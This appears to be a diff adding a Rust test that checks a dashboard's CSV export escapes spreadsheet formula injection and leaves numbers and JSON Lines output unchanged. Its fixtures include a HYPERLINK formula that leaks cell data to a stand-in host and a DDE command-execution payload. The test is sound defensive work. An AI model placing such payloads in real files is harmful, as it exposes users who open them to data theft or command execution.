@@ -209,7 +209,74 @@ async fn the_archive_exports_as_csv_with_the_lists_filters(db: TestDatabase) {
     }
 }
 
+/// Text a spreadsheet would run as a formula is exported to CSV as text (a leading `'`); a plain
+/// number is not, and JSON Lines keeps every text exact.
+async fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text(db: TestDatabase) {
+    let hyperlink = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"open\")";
+    let item = |id: &str, question: &str, answer: &str| evalboard_domain::DatasetItem {
+        id: id.into(),
+        category: "math".into(),
+        question: question.into(),
+        choices: Vec::new(),
+        answer: evalboard_domain::ItemAnswer::Number(
+            evalboard_domain::numeric::Number::parse(answer).unwrap(),
+        ),
+        explanation: None,
+        source: None,
+    };
+    import(
+        &db,
+        "Formulas",
+        &[
+            item("f1", hyperlink, "-3"),
+            item("f2", "@SUM(1,2)", "+5"),
+            item("f3", "-2+3+cmd|' /C calc'!A0", "0.5"),
+            item("f4", "How much is 2 - 5?", "-3"),
+        ],
+    );
+    let app = crate::support::app(db).await;
+    let created = app
+        .post_json(
+            "/runs",
+            &json!({"providerName": "Simulated", "datasetName": "Formulas", "modelName": "sim-1"}),
+        )
+        .await
+        .ok(201);
+    let id = created["run"]["id"].as_str().unwrap();
+
+    let (columns, rows) = read_csv(&app.get(&format!("/runs/{id}/export?format=csv")).await.body);
+    let column = |name: &str| columns.iter().position(|c| c == name).unwrap();
+    let cells = |name: &str| -> Vec<&str> {
+        rows.iter()
+            .map(|row| row.get(column(name)).unwrap())
+            .collect()
+    };
+    assert_eq!(
+        cells("question"),
+        [
+            format!("'{hyperlink}").as_str(),
+            "'@SUM(1,2)",
+            "'-2+3+cmd|' /C calc'!A0",
+            "How much is 2 - 5?"
+        ]
+    );
+    let expected = cells("expectedAnswer");
+    assert!(
+        expected.iter().all(|cell| !cell.starts_with('\'')),
+        "numbers are left as they are: {expected:?}"
+    );
+
+    let jsonl = app.get(&format!("/runs/{id}/export")).await;
+    let first: Value =
+        serde_json::from_slice(jsonl.body.split(|&b| b == b'\n').next().unwrap()).unwrap();
+    assert_eq!(
+        first["question"], hyperlink,
+        "JSON Lines keeps the text exact"
+    );
+}
+
 api_tests!(
     a_runs_items_export_as_jsonl_and_csv_equal_to_the_items_endpoint,
     the_archive_exports_as_csv_with_the_lists_filters,
+    csv_cells_that_a_spreadsheet_would_run_are_written_as_text,
 );
